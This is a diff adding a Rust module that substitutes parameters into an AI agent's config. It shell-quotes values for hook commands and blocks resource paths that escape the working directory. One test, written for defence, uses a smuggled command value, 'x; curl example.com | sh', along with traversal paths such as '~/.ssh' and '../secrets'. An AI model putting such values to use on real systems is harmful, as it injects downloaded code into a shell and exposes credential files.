@@ -0,0 +1,335 @@
+//! Input parameters of agent configs.
+//!
+//! An agent declares the parameters it takes with a JSON schema in its `inputSchema` field. The
+//! values of the parameters are substituted for `${name}` in the prompt, resources, hook commands
+//! and the args and env of MCP servers of the agent. References to parameters that are not given
+//! are left as they are.
+
+use std::collections::HashMap;
+use std::path::{
+    Component,
+    Path,
+};
+
+use eyre::bail;
+use regex::{
+    Captures,
+    Regex,
+};
+use serde_json::{
+    Map,
+    Value,
+};
+
+use super::{
+    Agent,
+    AgentConfigError,
+};
+use crate::util;
+
+/// Parses a `key=value` argument of `--param`.
+pub fn parse_param(arg: &str) -> Result<(String, String), String> {
+    match arg.split_once('=') {
+        Some((key, value)) if !key.is_empty() => Ok((key.to_string(), value.to_string())),
+        _ => Err(format!("expected key=value, got '{arg}'")),
+    }
+}
+
+impl Agent {
+    /// Applies the `key=value` arguments of `--param` with [Self::apply_params]. When
+    /// `interactive`, the user is prompted for the required parameters that are not given.
+    pub fn apply_param_args(&mut self, args: Vec<(String, String)>, interactive: bool) -> eyre::Result<()> {
+        let mut params = Map::new();
+        for (name, value) in args {
+            let value = self.param_value(&name, value);
+            params.insert(name, value);
+        }
+
+        for (name, description) in self.missing_params(&params) {
+            if !interactive {
+                bail!(
+                    "Agent {} requires the parameter {name}, pass it with --param {name}=<value>",
+                    self.name
+                );
+            }
+            let prompt = match description {
+                Some(description) => format!("{name} ({description})"),
+                None => name.clone(),
+            };
+            let value = self.param_value(&name, util::input(&prompt, None)?);
+            params.insert(name, value);
+        }
+
+        Ok(self.apply_params(params)?)
+    }
+
+    /// Converts the value of the parameter `name` given as text to the type declared for it by
+    /// [Self::input_schema]. Values of parameters that are not declared as strings are parsed as
+    /// JSON, falling back to the text itself.
+    pub fn param_value(&self, name: &str, value: String) -> Value {
+        let is_string = self
+            .param_property(name)
+            .and_then(|property| property.get("type"))
+            .is_none_or(|ty| ty == "string");
+        if is_string {
+            return Value::String(value);
+        }
+        serde_json::from_str(&value).unwrap_or(Value::String(value))
+    }
+
+    /// The parameters required by [Self::input_schema] that are not in `params`, along with their
+    /// description.
+    pub fn missing_params(&self, params: &Map<String, Value>) -> Vec<(String, Option<String>)> {
+        let required = self
+            .input_schema
+            .as_ref()
+            .and_then(|schema| schema.get("required"))
+            .and_then(Value::as_array);
+        let Some(required) = required else {
+            return Vec::new();
+        };
+
+        required
+            .iter()
+            .filter_map(Value::as_str)
+            .filter(|name| !params.contains_key(*name))
+            .map(|name| {
+                let description = self
+                    .param_property(name)
+                    .and_then(|property| property.get("description"))
+                    .and_then(Value::as_str)
+                    .map(str::to_string);
+                (name.to_string(), description)
+            })
+            .collect()
+    }
+
+    /// Validates `params` against [Self::input_schema] and substitutes them into the agent.
+    /// Parameters that are left out get their default from the schema, if any.
+    pub fn apply_params(&mut self, mut params: Map<String, Value>) -> Result<(), AgentConfigError> {
+        let properties = self
+            .input_schema
+            .as_ref()
+            .and_then(|schema| schema.get("properties"))
+            .and_then(Value::as_object);
+        for (name, property) in properties.into_iter().flatten() {
+            if let (false, Some(default)) = (params.contains_key(name), property.get("default")) {
+                params.insert(name.clone(), default.clone());
+            }
+        }
+
+        let invalid_params = |error: String| AgentConfigError::InvalidParams {
+            name: self.name.clone(),
+            error,
+        };
+        let params = Value::Object(params);
+        if let Some(schema) = &self.input_schema {
+            let validator = jsonschema::validator_for(schema)
+                .map_err(|error| invalid_params(format!("inputSchema is not a valid JSON schema: {error}")))?;
+            if let Err(error) = validator.validate(&params) {
+                return Err(invalid_params(match error.instance_path.as_str() {
+                    "" => error.to_string(),
+                    path => format!("{}: {error}", path.trim_start_matches('/')),
+                }));
+            }
+        }
+
+        let Value::Object(params) = params else {
+            return Ok(());
+        };
+        let values = params
+            .into_iter()
+            .map(|(name, value)| match value {
+                Value::String(value) => (name, value),
+                value => (name, value.to_string()),
+            })
+            .collect::<HashMap<_, _>>();
+        if values.is_empty() {
+            return Ok(());
+        }
+        // Hooks run through a shell, so each value is substituted as a single shell word.
+        let quoted_values = values
+            .iter()
+            .map(|(name, value)| match shlex::try_quote(value) {
+                Ok(quoted) => Ok((name.clone(), quoted.into_owned())),
+                Err(_) => Err(invalid_params(format!("{name} must not contain nul bytes"))),
+            })
+            .collect::<Result<HashMap<_, _>, _>>()?;
+
+        let re = Regex::new(r"\$\{([A-Za-z0-9_-]+)\}").unwrap();
+        let substitute = |input: &str, values: &HashMap<String, String>| {
+            re.replace_all(input, |caps: &Captures<'_>| {
+                values.get(&caps[1]).cloned().unwrap_or_else(|| caps[0].to_string())
+            })
+            .into_owned()
+        };
+
+        // Resources are loaded without asking, so values can't point them outside of the current
+        // directory.
+        for resource in &self.resources {
+            for caps in re.captures_iter(resource) {
+                if values.get(&caps[1]).is_some_and(|value| !is_relative_path(value)) {
+                    return Err(invalid_params(format!(
+                        "{} is used in a resource, so it must be a non-empty relative path without `..`",
+                        &caps[1]
+                    )));
+                }
+            }
+        }
+
+        if let Some(prompt) = &mut self.prompt {
+            *prompt = substitute(prompt, &values);
+        }
+        for resource in &mut self.resources {
+            *resource = substitute(resource, &values).into();
+        }
+        for hook in self.hooks.values_mut().flatten() {
+            hook.command = substitute(&hook.command, &quoted_values);
+        }
+        for server in self.mcp_servers.mcp_servers.values_mut() {
+            for arg in &mut server.args {
+                *arg = substitute(arg, &values);
+            }
+            for value in server.env.iter_mut().flat_map(|env| env.values_mut()) {
+                *value = substitute(value, &values);
+            }
+        }
+
+        Ok(())
+    }
+
+    fn param_property(&self, name: &str) -> Option<&Value> {
+        self.input_schema.as_ref()?.get("properties")?.get(name)
+    }
+}
+
+/// Whether `value` is a non-empty path below the current directory.
+fn is_relative_path(value: &str) -> bool {
+    !value.is_empty()
+        && !value.starts_with('~')
+        && Path::new(value)
+            .components()
+            .all(|component| matches!(component, Component::Normal(_) | Component::CurDir))
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    fn agent() -> Agent {
+        serde_json::from_value(json!({
+            "name": "reviewer",
+            "prompt": "Review ${path} for ${focus}, ${unknown} stays",
+            "resources": ["file://${path}/README.md"],
+            "hooks": {
+                "agentSpawn": [{ "command": "git log -n ${count} -- ${path}" }]
+            },
+            "mcpServers": {
+                "files": {
+                    "command": "files-mcp",
+                    "args": ["--root", "${path}"],
+                    "env": { "FILES_ENV": "${env:HOME}/${focus}" }
+                }
+            },
+            "inputSchema": {
+                "type": "object",
+                "properties": {
+                    "path": { "type": "string", "description": "Directory to review" },
+                    "focus": { "type": "string", "default": "bugs" },
+                    "count": { "type": "integer" }
+                },
+                "required": ["path", "count"]
+            }
+        }))
+        .unwrap()
+    }
+
+    #[test]
+    fn test_parse_param() {
+        assert_eq!(
+            parse_param("path=src/a=b"),
+            Ok(("path".to_string(), "src/a=b".to_string()))
+        );
+        assert_eq!(parse_param("path="), Ok(("path".to_string(), String::new())));
+        assert!(parse_param("path").is_err());
+        assert!(parse_param("=src").is_err());
+    }
+
+    #[test]
+    fn test_missing_params() {
+        let agent = agent();
+        let mut params = Map::new();
+        params.insert("count".to_string(), agent.param_value("count", "3".to_string()));
+
+        assert_eq!(params["count"], json!(3));
+        assert_eq!(agent.missing_params(&params), vec![(
+            "path".to_string(),
+            Some("Directory to review".to_string())
+        )]);
+    }
+
+    #[test]
+    fn test_apply_params() {
+        let mut agent = agent();
+        let params = Map::from_iter([
+            ("path".to_string(), agent.param_value("path", "src".to_string())),
+            ("count".to_string(), agent.param_value("count", "3".to_string())),
+        ]);
+        agent.apply_params(params).unwrap();
+
+        assert_eq!(agent.prompt.as_deref(), Some("Review src for bugs, ${unknown} stays"));
+        assert_eq!(agent.resources[0].as_str(), "file://src/README.md");
+        assert_eq!(
+            agent.hooks.values().flatten().next().unwrap().command,
+            "git log -n 3 -- src"
+        );
+        let server = &agent.mcp_servers.mcp_servers["files"];
+        assert_eq!(server.args, vec!["--root", "src"]);
+        assert_eq!(server.env.as_ref().unwrap()["FILES_ENV"], "${env:HOME}/bugs");
+    }
+
+    #[test]
+    fn test_apply_params_untrusted_values() {
+        let mut quoted = agent();
+        let params = Map::from_iter([
+            ("path".to_string(), json!("src")),
+            ("count".to_string(), json!(3)),
+            ("focus".to_string(), json!("x; curl example.com | sh")),
+        ]);
+        quoted.hooks.values_mut().flatten().next().unwrap().command = "echo ${focus}".to_string();
+        quoted.apply_params(params).unwrap();
+        assert_eq!(
+            quoted.hooks.values().flatten().next().unwrap().command,
+            "echo 'x; curl example.com | sh'"
+        );
+
+        for path in ["", "../secrets", "/etc", "~/.ssh", "src/../../x"] {
+            let params = Map::from_iter([("path".to_string(), json!(path)), ("count".to_string(), json!(3))]);
+            assert!(
+                matches!(
+                    agent().apply_params(params),
+                    Err(AgentConfigError::InvalidParams { .. })
+                ),
+                "{path}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_apply_params_invalid() {
+        let mut agent = agent();
+        let params = Map::from_iter([
+            ("path".to_string(), agent.param_value("path", "src".to_string())),
+            ("count".to_string(), agent.param_value("count", "many".to_string())),
+        ]);
+        let err = agent.apply_params(params).unwrap_err().to_string();
+        assert!(err.contains("count"), "{err}");
+
+        assert!(matches!(
+            agent.apply_params(Map::new()),
+            Err(AgentConfigError::InvalidParams { .. })
+        ));
+    }
+}